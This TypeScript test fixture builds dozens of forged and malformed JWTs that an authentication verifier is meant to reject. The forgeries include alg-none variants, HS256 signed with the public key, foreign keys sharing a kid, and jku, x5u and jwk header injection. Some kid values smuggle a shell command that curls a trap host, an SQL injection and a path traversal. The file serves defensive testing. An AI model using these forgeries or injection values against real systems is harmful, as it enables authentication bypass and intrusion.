/** Tokens that nobody may enter with, by what is wrong with them. */
import { createHmac } from "node:crypto";
import { encodePart, forgeHs, SECRET, type Claims, type TestKey } from "../auth/support.ts";

export interface Forgers {
  /** Whose public half is configured. */
  readonly issuer: TestKey;
  /** Of another issuer, with the same kid. */
  readonly stranger: TestKey;
  /** Claims that would be accepted. */
  readonly claims: Claims;
  /** An address that nobody must ask for anything. */
  readonly trap: string;
}

type Forge = (forgers: Forgers) => string | Promise<string>;

const hs =
  (header: Claims, changes: Claims = {}): Forge =>
  ({ claims }) =>
    forgeHs({ alg: "HS256", typ: "JWT", ...header }, { ...claims, ...changes });
const rs =
  (changes: Claims, header: Claims = {}): Forge =>
  ({ issuer, claims }) =>
    issuer.sign({ ...claims, ...changes }, header);
/** A header as its text, signed with the right secret. */
const spelled =
  (header: string): Forge =>
  ({ claims }) =>
    forgeHs(header, claims);
const altered =
  (change: (parts: [string, string, string]) => string): Forge =>
  ({ claims }) =>
    change(forgeHs({ alg: "HS256" }, claims).split(".") as [string, string, string]);
const keyed =
  (secret: (forgers: Forgers) => string): Forge =>
  (forgers) =>
    forgeHs({ alg: "HS256", kid: forgers.issuer.jwk.kid }, forgers.claims, secret(forgers));
/** Signed by somebody else, with a header that says where the key is. */
const pointed =
  (header: (forgers: Forgers) => Claims): Forge =>
  (forgers) =>
    forgers.stranger.sign(forgers.claims, header(forgers));

const unsigned =
  (alg: string, signature = ""): Forge =>
  ({ claims }) =>
    `${encodePart({ alg, typ: "JWT" })}.${encodePart(claims)}.${signature}`;

/** The last letter's unused bits set: decoders read the same bytes. */
function respelled(text: string): string {
  const letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
  return text.slice(0, -1) + letters[letters.indexOf(text.at(-1) ?? "") + 1];
}

/** A JSON object with a member twice, the second one last. */
const twice = (claims: Claims, member: string): string => `${JSON.stringify(claims).slice(0, -1)},${member}}`;

const HOUR = 3600;

export const FORGED: Readonly<Record<string, Forge>> = {
  "alg none": unsigned("none"),
  "alg None": unsigned("None"),
  "alg NONE": unsigned("NONE"),
  "alg nOnE with a signature": unsigned("nOnE", "AAAA"),
  "no alg": spelled(`{"typ":"JWT"}`),
  "alg null": spelled(`{"alg":null}`),
  "alg as a list": spelled(`{"alg":["HS256"]}`),
  "alg in small letters": spelled(`{"alg":"hs256"}`),
  "alg of encryption": spelled(`{"alg":"dir","enc":"A256GCM"}`),
  "alg that names a prototype": spelled(`{"alg":"__proto__"}`),
  "HS256 with the public key as secret": keyed(({ issuer }) => issuer.pem),
  "HS256 with the public key's JWK as secret": keyed(({ issuer }) => JSON.stringify(issuer.jwk)),
  "HS256 with the modulus as secret": keyed(({ issuer }) => issuer.jwk.n ?? "n"),
  "HS256 with an empty secret": keyed(() => "\u0000"),
  "HS256 with another secret": keyed(() => "another secret of more than thirty-two bytes"),
  "RS256 over an HMAC": ({ claims }) => {
    const input = `${encodePart({ alg: "RS256" })}.${encodePart(claims)}`;
    return `${input}.${createHmac("sha256", SECRET).update(input).digest("base64url")}`;
  },
  "HS512 said, HS256 made": ({ claims }) => forgeHs({ alg: "HS512" }, claims),
  "another key of the same kid": ({ stranger, claims }) => stranger.sign(claims),
  "another key of the same kid, which says whose": ({ stranger, claims, trap }) =>
    stranger.sign({ ...claims, iss: trap }),
  "kid with a path": pointed(() => ({ kid: "../../../../dev/null" })),
  "kid with a path, and an empty secret": ({ claims }) =>
    forgeHs({ alg: "HS256", kid: "/dev/null" }, claims, "\u0000"),
  "kid with an address": pointed(({ trap }) => ({ kid: `${trap}/kid` })),
  "kid with SQL": pointed(() => ({ kid: "' UNION SELECT 'secret' --" })),
  "kid with a command": pointed(({ trap }) => ({ kid: `|curl ${trap}/shell` })),
  "kid that is no text": pointed(() => ({ kid: { toString: "x" } })),
  jku: pointed(({ trap }) => ({ jku: `${trap}/jwks.json` })),
  x5u: pointed(({ trap }) => ({ x5u: `${trap}/chain.pem` })),
  "jwk in the header": pointed(({ stranger }) => ({ jwk: stranger.jwk })),
  "x5c in the header": pointed(({ stranger }) => ({ x5c: [encodePart(stranger.pem)] })),
  "iss that is an address": ({ stranger, claims, trap }) => stranger.sign({ ...claims, iss: trap }),
  crit: hs({ crit: ["exp"] }),
  "crit that is empty": hs({ crit: [] }),
  "crit b64": hs({ crit: ["b64"], b64: false }),
  "a member of the header twice": spelled(`{"alg":"none","alg":"HS256"}`),
  "a member of the header twice, spelled in two ways": spelled(`{"al\\u0067":"none","alg":"HS256"}`),
  "a claim twice": ({ claims }) => forgeHs({ alg: "HS256" }, twice(claims, `"sub":"root"`)),
  "a header that is a list": spelled(`["HS256"]`),
  "a header that is no JSON": spelled(`{alg:HS256}`),
  "a header with a byte order mark": spelled(`\ufeff{"alg":"HS256"}`),
  "a payload that is a list": () => forgeHs({ alg: "HS256" }, []),
  "a payload that is null": () => forgeHs({ alg: "HS256" }, "null"),
  "a payload that is nested without end": () => forgeHs({ alg: "HS256" }, "[".repeat(5000)),
  "two parts": altered(([head, body]) => `${head}.${body}`),
  "four parts": altered((parts) => `${parts.join(".")}.AAAA`),
  "five parts": altered((parts) => `${parts.join(".")}.AAAA.AAAA`),
  "no signature": altered(([head, body]) => `${head}.${body}.`),
  "an altered payload": altered(
    ([head, , signature]) => `${head}.${encodePart({ sub: "root" })}.${signature}`,
  ),
  "a signature cut off": altered(([head, body, signature]) => `${head}.${body}.${signature.slice(0, -4)}`),
  "a signature in another spelling": altered(([head, body, sign]) => `${head}.${body}.${respelled(sign)}`),
  "a signature with padding": altered(([head, body, signature]) => `${head}.${body}.${signature}=`),
  "blanks within": altered(([head, body, signature]) => `${head}.${body} .${signature}`),
  expired: hs({}, { exp: 1 }),
  "expired, asymmetric": rs({ exp: 1 }),
  "no exp": hs({}, { exp: undefined }),
  "exp as a text": hs({}, { exp: "9999999999" }),
  "exp that is no number any more": ({ claims }) =>
    forgeHs({ alg: "HS256" }, JSON.stringify(claims).replace(/"exp":\d+/, '"exp":1e999')),
  "not yet valid": ({ claims }) =>
    forgeHs({ alg: "HS256" }, { ...claims, nbf: Number(claims["exp"]), exp: Number(claims["exp"]) + HOUR }),
  "nbf as a text": hs({}, { nbf: "1" }),
  "iat as a text": hs({}, { iat: "now" }),
  "no user": hs({}, { sub: undefined }),
  "an empty user": hs({}, { sub: "" }),
  "a user that is a list": hs({}, { sub: ["root"] }),
  "a user that is an object": hs({}, { sub: { id: 1 } }),
  "a user with control characters": hs({}, { sub: "a\u0000b" }),
  "a user with half a letter": hs({}, { sub: "\ud800" }),
  "a user too long": hs({}, { sub: "x".repeat(129) }),
  "a user beyond exact numbers": ({ claims }) =>
    forgeHs({ alg: "HS256" }, JSON.stringify(claims).replace(/"sub":[^,}]+/, '"sub":9007199254740993')),
  "the server's own user": hs({}, { sub: "system" }),
  "a token too long": hs({}, { pad: "x".repeat(9000) }),
  "too many rooms": hs({}, { rooms: Array.from({ length: 1001 }, () => "a") }),
  "rooms that are no list": hs({}, { rooms: "*" }),
  "workspaces that are no ids": hs({}, { workspaces: [{}] }),
  "a token for refreshing": hs({}, { type: "refresh" }),
  "a wrong issuer": hs({}, { iss: "https://evil.example" }),
  "an issuer that looks like it": hs({}, { iss: "https://id.example.com.evil.example" }),
  "an issuer as a list": hs({}, { iss: ["https://id.example.com"] }),
  "no issuer": hs({}, { iss: undefined }),
  "a wrong issuer, asymmetric": rs({ iss: "https://evil.example" }),
  "a wrong audience": hs({}, { aud: "another" }),
  "a wrong audience among several": hs({}, { aud: ["another", "realtime2"] }),
  "an audience that is an object": hs({}, { aud: { realtime: true } }),
  "no audience": hs({}, { aud: undefined }),
};
